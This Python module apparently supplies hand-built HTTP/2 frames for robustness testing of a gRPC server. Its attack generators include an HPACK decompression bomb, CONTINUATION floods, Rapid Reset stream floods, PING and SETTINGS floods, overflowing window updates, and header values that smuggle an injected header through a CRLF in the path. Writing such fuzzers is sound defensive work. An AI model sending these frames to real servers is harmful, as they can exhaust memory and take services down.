"""HTTP/2 frames written by hand: right ones, and those that only an attacker sends."""

import random
from collections.abc import Iterable

from fairlead.protocols.hpack import encode

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
_BOMB_VALUE = b"A" * 4000
_BOMB_REFERENCES = 16_000
_FLOOD = 3000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


GREETING = PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, (1 << 24).to_bytes(4, "big"))


def head(path: bytes, metadata: Iterable[tuple[bytes, bytes]] = ()) -> list[tuple[bytes, bytes]]:
    """The headers of a gRPC call."""
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"localhost"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
        *metadata,
    ]


def call(path: bytes, body: bytes, metadata: Iterable[tuple[bytes, bytes]] = ()) -> list[bytes]:
    """The frames of a call on stream 1."""
    block = encode(head(path, metadata))
    return [frame(HEADERS, END_HEADERS, 1, block), frame(DATA, END_STREAM, 1, body)]


_ODD_HEADERS: list[list[tuple[bytes, bytes]]] = [
    [(b":method", b"GET /x HTTP/1.1"), (b":scheme", b"http"), (b":path", b"/"), (b":authority", b"a")],
    [(b":method", b"G\xc9T"), (b":scheme", b"http"), (b":path", b"/live"), (b":authority", b"a")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/a b\x7f\xff"), (b":authority", b"a b@c/d")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/live\r\nX-Injected: 1"), (b":authority", b"a")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/live"), (b":path", b"/"), (b":authority", b"a")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/live"), (b"a", b"b"), (b":authority", b"a")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/live"), (b"transfer-encoding", b"chunked")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/live"), (b"connection", b"close")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/live"), (b"A", b"b"), (b"host", b"x")],
    [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/live"), (b"content-length", b"9")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/live"), (b"x\0y", b"z\0")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"*"), (b":authority", b"a")],
    [(b":method", b"CONNECT"), (b":authority", b"a:1")],
    [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"), (b"seldon-puid", b"\xff\xfe" * 40)],
    [(b":status", b"200")],
    [],
]


def attack(source: random.Random) -> bytes:
    """One of the known attacks on HTTP/2."""
    return source.choice(_ATTACKS)(source)


def _odd_headers(source: random.Random) -> bytes:
    block = encode(source.choice(_ODD_HEADERS))
    return frame(HEADERS, END_HEADERS | END_STREAM, 1, block)


def _bomb(_: random.Random) -> bytes:
    """A block of 20 KB that decodes to 64 MB."""
    entry = b"\x40\x01x" + _length(len(_BOMB_VALUE)) + _BOMB_VALUE
    return frame(HEADERS, END_HEADERS, 1, encode(head(b"/live")) + entry + b"\xbe" * (_BOMB_REFERENCES - len(entry)))


def _continuations(_: random.Random) -> bytes:
    start = frame(HEADERS, 0, 1, encode(head(b"/live")))
    return start + frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y") * _FLOOD


def _empty_continuations(_: random.Random) -> bytes:
    return frame(HEADERS, 0, 1, b"") + frame(CONTINUATION, 0, 1) * _FLOOD


def _rapid_reset(_: random.Random) -> bytes:
    block = encode(head(b"/seldon.protos.Seldon/Predict"))
    streams = range(1, 2 * _FLOOD, 2)
    return b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(RST_STREAM, 0, n, b"\0\0\0\x08") for n in streams)


def _pings(_: random.Random) -> bytes:
    return frame(PING, 0, 0, b"12345678") * _FLOOD


def _settings(_: random.Random) -> bytes:
    return frame(SETTINGS, 0, 0, b"\0\x04\x7f\xff\xff\xff") * _FLOOD


def _empty_data(_: random.Random) -> bytes:
    return frame(HEADERS, END_HEADERS, 1, encode(head(b"/seldon.protos.Seldon/Predict"))) + frame(DATA, 0, 1) * _FLOOD


def _window_lies(source: random.Random) -> bytes:
    step = source.choice((0, 0x7FFFFFFF, 0xFFFFFFFF)).to_bytes(4, "big")
    return frame(WINDOW_UPDATE, 0, source.choice((0, 1)), step) * 3


def _small_windows(source: random.Random) -> bytes:
    """Answers that nobody lets go: a window of nothing."""
    zero = frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
    block = encode([(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/prometheus"), (b":authority", b"a")])
    return zero + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, block) for n in range(1, 199, 2))


def _table_sizes(source: random.Random) -> bytes:
    sizes = b"".join(source.choice((b"\x20", b"\x3f\xe1\x1f", b"\x3f\xff\xff\xff\x0f")) for _ in range(50))
    return frame(HEADERS, END_HEADERS | END_STREAM, 1, sizes + encode(head(b"/live")))


def _noise(source: random.Random) -> bytes:
    frames = []
    for _ in range(source.randrange(1, 20)):
        payload = source.randbytes(source.choice((0, 1, 4, 5, 6, 8, 17, 300)))
        stream = source.choice((0, 1, 1, 2, 3, 0x80000001))
        frames.append(frame(source.randrange(12), source.randrange(256), stream, payload))
    return b"".join(frames)


def _length(size: int) -> bytes:
    """An HPACK string's length over seven bits."""
    out, rest = bytearray(b"\x7f"), size - 0x7F
    while rest >= 0x80:
        out.append(rest & 0x7F | 0x80)
        rest >>= 7
    out.append(rest)
    return bytes(out)


_ATTACKS = (
    _odd_headers,
    _odd_headers,
    _odd_headers,
    _bomb,
    _continuations,
    _empty_continuations,
    _rapid_reset,
    _pings,
    _settings,
    _empty_data,
    _window_lies,
    _small_windows,
    _table_sizes,
    _noise,
    _noise,
    _noise,
)
